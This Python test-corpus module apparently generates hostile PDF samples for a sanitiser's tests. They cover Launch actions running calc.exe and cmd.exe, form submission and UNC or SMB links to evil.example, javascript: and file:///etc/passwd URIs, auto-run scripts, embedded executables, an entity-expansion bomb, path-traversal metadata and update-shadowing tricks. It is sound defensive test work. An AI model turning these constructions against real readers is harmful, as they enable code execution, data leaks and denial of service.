"""Files that act by themselves, lead elsewhere or tell more than they should: accepted without all of that."""

from collections.abc import Callable, Iterator
from typing import Any

from tests.corpus.hostile.common import SCRIPT, Make, drawing, one
from tests.corpus.hostile.trees import outlines
from tests.corpus.writing import TEXT, Objects, document, stream, update, with_streams, written

FILE = "<< /Type /Filespec /F (x.exe) /EF << /F 11 0 R >> >>"


def link(action: str, **more: Any) -> bytes:
    return one(page=f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A {action} >>]", **more)


def annotation(entries: str, **more: Any) -> bytes:
    return one(page=f"/Annots [<< /Type /Annot /Rect [0 0 99 99] {entries} >>]", **more)


def actions() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Every kind of action, at a link."""
    for name, entries in {
        "launch": "/S /Launch /F (calc.exe)",
        "launch-win": "/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>",
        "submit-form": "/S /SubmitForm /F << /FS /URL /F (https://evil.example/) >>",
        "import-data": "/S /ImportData /F (x.fdf)",
        "reset-form": "/S /ResetForm",
        "go-to-remote": "/S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit]",
        "go-to-embedded": "/S /GoToE /T << /R /C /N (x.pdf) >>",
        "thread": "/S /Thread /F (x.pdf) /D 0",
        "rendition": "/S /Rendition /OP 0 /JS (app.alert\\(1\\))",
        "movie": "/S /Movie /Operation /Play",
        "sound": "/S /Sound /Sound 10 0 R",
        "hide": "/S /Hide /T (field)",
        "set-layers": "/S /SetOCGState /State [/ON]",
        "transition": "/S /Trans /Trans << /S /Wipe >>",
        "rich-media-execute": "/S /RichMediaExecute /TA 3 0 R /CMD << /C (run) >>",
        "three-d-view": "/S /GoTo3DView /TA 3 0 R /V /F",
        "uri-javascript": "/S /URI /URI (javascript:alert\\(1\\))",
        "uri-file": "/S /URI /URI (file:///etc/passwd)",
        "uri-smb": "/S /URI /URI (smb://evil.example/share)",
        "uri-data": "/S /URI /URI (data:text/html,<script>alert\\(1\\)</script>)",
        "uri-newline": "/S /URI /URI (https://good.example\\njavascript:alert\\(1\\))",
        "uri-wide": "/S /URI /URI <FEFF006A006100760061003A>",
        "named-print": "/S /Named /N /Print",
        "unknown-action": "/S /DoWhatever /X (1)",
        "javascript-by-hex-name": "/S /Java#53cript /JS (app.alert\\(1\\))",
        "javascript-in-stream": "/S /JavaScript /JS 10 0 R",
    }.items():
        yield name, lambda entries=entries: link(f"<< {entries} >>", _10=stream("app.alert(1)", "/R 8000"))  # type: ignore[misc]


def chain_of_next(length: int) -> bytes:
    first, last = 10, 10 + length
    more = {
        number: f"<< /S /GoTo /D [3 0 R /Fit] /Next {number + 1} 0 R >>" for number in range(first, last)
    } | {last: SCRIPT}
    return written(document(page="/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A 10 0 R >>]") | more)


def shadow(kind: str) -> bytes:
    """A first version that looks harmless, and an update after it."""
    first = one()
    changed: dict[str, Objects] = {
        "script": {1: f"<< /Type /Catalog /Pages 2 0 R /OpenAction {SCRIPT} >>"},
        "content": {4: stream(TEXT.replace("stay as they are", "are others now"))},
        "page": {3: f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /AA << /O {SCRIPT} >> >>"},
    }
    return update(first, changed[kind])


def hidden_in_earlier_version() -> bytes:
    """The newest version is clean; the script is in the one before."""
    return update(one(f"/OpenAction {SCRIPT}"), {1: "<< /Type /Catalog /Pages 2 0 R >>"})


def signed() -> bytes:
    signature = "<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 9 9 9] /Contents <00> >>"
    field = "<< /Type /Annot /Subtype /Widget /FT /Sig /T (s) /V 11 0 R /Rect [0 0 0 0] /P 3 0 R >>"
    catalog = "/AcroForm << /Fields [10 0 R] /SigFlags 3 >> /Perms << /DocMDP 11 0 R >>"
    return one(catalog, "/Annots [10 0 R]", _10=field, _11=signature)


def in_object_stream() -> bytes:
    base = document("/OpenAction 10 0 R /Names << /JavaScript << /Names [(a) 10 0 R] >> >>", _10=SCRIPT)
    plain = {number: base[number] for number in (4,)}
    return with_streams(plain, {number: base[number] for number in (1, 2, 3, 5, 10)})


def used_twice() -> bytes:
    """One object as the names of fonts and as an annotation: what is judged once for its first use is missed."""
    objects = document(page="/Annots [10 0 R]")
    objects[3] = str(objects[3]).replace("/Font << /F1 5 0 R >>", "/Font 10 0 R")
    objects[10] = (
        "<< /F1 5 0 R /Type /Annot /Subtype /Screen /Rect [0 0 9 9] "
        f"/A << /S /Rendition /JS (app.alert\\(1\\)) >> /AA << /PO {SCRIPT} >> >>"
    )
    return written(objects)


def annotation_kept_by_tags() -> bytes:
    """Taken off the page, an annotation is still held by the structure tree."""
    tags = "/StructTreeRoot << /Type /StructTreeRoot /K << /S /Annot /P 1 0 R /K << /Type /OBJR /Obj 10 0 R >> >> >>"
    file = f"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 11 0 R /A {SCRIPT} >>"
    return one(
        tags,
        "/Annots [10 0 R]",
        _10=file,
        _11="<< /Type /Filespec /F (x.exe) /EF << /F 12 0 R >> >>",
        _12=stream("MZ"),
    )


def html_within() -> bytes:
    return written(document(), header=b"%PDF-1.7\n%<html><script>alert(1)</script><!--\n")


ACTING: dict[str, Make] = {
    **dict(actions()),
    "open-action": lambda: one(f"/OpenAction {SCRIPT}"),
    "open-action-launch": lambda: one("/OpenAction << /S /Launch /F (calc.exe) >>"),
    "names-javascript": lambda: one(f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>"),
    "catalog-aa": lambda: one(f"/AA << /WC {SCRIPT} /WS {SCRIPT} /DP {SCRIPT} >>"),
    "page-aa": lambda: one(page=f"/AA << /O {SCRIPT} /C {SCRIPT} >>"),
    "embedded-file": lambda: one(
        "/Names << /EmbeddedFiles << /Names [(x) 10 0 R] >> >>", _10=FILE, _11=stream("MZ")
    ),
    "associated-file": lambda: one("/AF [10 0 R]", _10=FILE, _11=stream("MZ")),
    "portfolio": lambda: one(
        "/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(x) 10 0 R] >> >>",
        _10=FILE,
        _11=stream("MZ"),
    ),
    "file-attachment": lambda: annotation("/Subtype /FileAttachment /FS 10 0 R", _10=FILE, _11=stream("MZ")),
    "sound-annotation": lambda: annotation("/Subtype /Sound /Sound 10 0 R", _10=stream(bytes(9), "/R 8000")),
    "movie-annotation": lambda: annotation("/Subtype /Movie /Movie << /F (x.avi) >>"),
    "screen-annotation": lambda: annotation(f"/Subtype /Screen /AA << /PO {SCRIPT} >>"),
    "rich-media": lambda: annotation("/Subtype /RichMedia /RichMediaContent << /Assets << >> >>"),
    "three-d": lambda: annotation(
        "/Subtype /3D /3DD 10 0 R", _10=stream(bytes(9), "/Type /3D /Subtype /U3D")
    ),
    "widget-keystroke": lambda: one(
        "/AcroForm << /Fields [10 0 R] >>",
        "/Annots [10 0 R]",
        _10=f"<< /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 9 9] /AA << /K {SCRIPT} >> /P 3 0 R >>",
    ),
    "calculation-order": lambda: one(
        "/AcroForm << /Fields [10 0 R] /CO [10 0 R] >>",
        "/Annots [10 0 R]",
        _10=f"<< /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 9 9] /AA << /C {SCRIPT} >> /P 3 0 R >>",
    ),
    "xfa": lambda: one("/AcroForm << /Fields [] /XFA 10 0 R >>", _10=stream("<xdp><script>1</script></xdp>")),
    "outline-script": lambda: outlines({11: f"<< /Title (x) /Parent 10 0 R /A {SCRIPT} >>"}),
    "next-chain": lambda: chain_of_next(5),
    "next-chain-long": lambda: chain_of_next(5000),
    "next-loop": lambda: link("10 0 R", _10="<< /S /GoTo /D [3 0 R /Fit] /Next 10 0 R >>"),
    "next-array": lambda: link(f"<< /S /URI /URI (https://good.example) /Next [{SCRIPT} {SCRIPT}] >>"),
    "uri-base": lambda: one("/URI << /Base (javascript:) >>"),
    "link-pa": lambda: annotation("/Subtype /Link /PA << /S /URI /URI (javascript:1) >>"),
    "external-stream": lambda: one(page="/X 10 0 R", _10=stream("", "/F (\\\\\\\\evil.example\\\\x)")),
    "reference-xobject": lambda: drawing(
        stream("", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (x.pdf) /Page 0 >>")
    ),
    "opi": lambda: drawing(
        stream("", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /OPI << /2.0 << /F (x) >> >>")
    ),
    "requirements": lambda: one("/Requirements [<< /S /EnableJavaScripts >>]"),
    "templates": lambda: one("/Names << /Templates << /Names [(t) 3 0 R] >> >>"),
    "shadow-script": lambda: shadow("script"),
    "shadow-content": lambda: shadow("content"),
    "shadow-page": lambda: shadow("page"),
    "hidden-in-earlier-version": hidden_in_earlier_version,
    "signed": signed,
    "in-object-stream": in_object_stream,
    "used-twice": used_twice,
    "annotation-kept-by-tags": annotation_kept_by_tags,
    "tag-called-javascript": lambda: one("/StructTreeRoot << /K << /S /JavaScript /JS (1) /P 1 0 R >> >>"),
    "odd-trailer": lambda: written(document() | {10: SCRIPT}, trailer="/Evil 10 0 R"),
    "unreachable-script": lambda: one(_10=SCRIPT),
    "xmp-entities": lambda: one(
        "/Metadata 10 0 R",
        _10=stream(
            '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>',
            "/Type /Metadata /Subtype /XML",
        ),
    ),
    "odd-names-in-info": lambda: written(
        document() | {10: "<< /Title (../../etc/passwd\\000.pdf) /Author (A Person) /Evil (1) >>"},
        trailer="/Info 10 0 R",
    ),
    "html-in-comment": html_within,
    "piece-info": lambda: one("/PieceInfo << /Illustrator << /Private 10 0 R >> >>", _10=stream("secret")),
    "many-annotations": lambda: one(
        page="/Annots [" + f"<< /Subtype /Link /Rect [0 0 9 9] /A {SCRIPT} >> " * 20_000 + "]"
    ),
}
